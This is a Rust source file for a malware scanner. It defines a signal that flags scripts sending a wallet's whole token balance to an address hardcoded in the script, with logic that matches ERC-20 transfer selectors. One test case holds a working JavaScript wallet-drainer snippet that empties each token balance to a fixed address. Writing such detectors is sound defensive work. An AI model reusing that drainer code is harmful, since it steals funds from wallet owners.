//! `raw-transfer-to-held-account`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::stream::Kind;
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "raw-transfer-to-held-account",
    description: "The script builds a raw transfer of the wallet's coins to an account it contains.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::RawMove]), one(&[Atom::WalletCall]), one(&[Atom::WalletBalance])],
    within: 400,
    only_if: Some(moves_to_held),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            r#"const box='0x91b2fa3C6634c0532925a3b844bC9ee3A5D0b12f';async function all(me){for(const t of L){const r=await ethereum.request({method:'eth_call',params:[{to:t,data:'0x70a08231'+pad(me)},'latest']});await ethereum.request({method:'eth_sendTransaction',params:[{from:me,to:t,data:'0xa9059cbb'+box.slice(2).padStart(64,'0')+r.slice(2)}]})}}"#,
        ],
        without: &[
            r#"async function pay(me,to,n){const r=await ethereum.request({method:'eth_call',params:[{to:T,data:'0x70a08231'+pad(me)},'latest']});show(r);await ethereum.request({method:'eth_sendTransaction',params:[{from:me,to:T,data:'0xa9059cbb'+pad(to)+pad(n)}]})}"#,
        ],
    },
};

fn moves_to_held(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 0);
    let accounts = evidence.facts.iter().filter(|fact| fact.atom == Atom::AccountAddress).take(MANY);
    let names: Vec<&str> = accounts
        .map(|fact| fact.at as usize)
        .filter(|at| *at > 1 && near.is(at - 1, b'='))
        .map(|at| near.word(at - 2))
        .collect();
    let selectors =
        near.places().filter(|at| MOVES.iter().any(|selector| near.word(*at).starts_with(selector)));
    let follows = |at: usize| at + 1..at + JOINED;
    selectors.into_iter().any(|at| {
        pays_in_text(near.word(at))
            || follows(at).any(|at| {
                near.kind(at) == Some(Kind::Name) && names.contains(&near.word(at))
                    || near.kind(at) == Some(Kind::Str)
                        && near.has_fact_in(at..at + 1, &[Atom::AccountAddress])
            })
    })
}

/// Whether the account is in the text itself, as it is where constants were joined.
fn pays_in_text(text: &str) -> bool {
    text.get(10..74).is_some_and(|account| {
        account.bytes().all(|byte| byte.is_ascii_hexdigit()) && account[24..].bytes().any(|byte| byte != b'0')
    })
}

/// The calls `transfer` and `transferFrom`.
const MOVES: &[&str] = &["0xa9059cbb", "0x23b872dd"];
/// Items of what is joined to a selector.
const JOINED: usize = 16;
/// Accounts that are looked up.
const MANY: usize = 64;
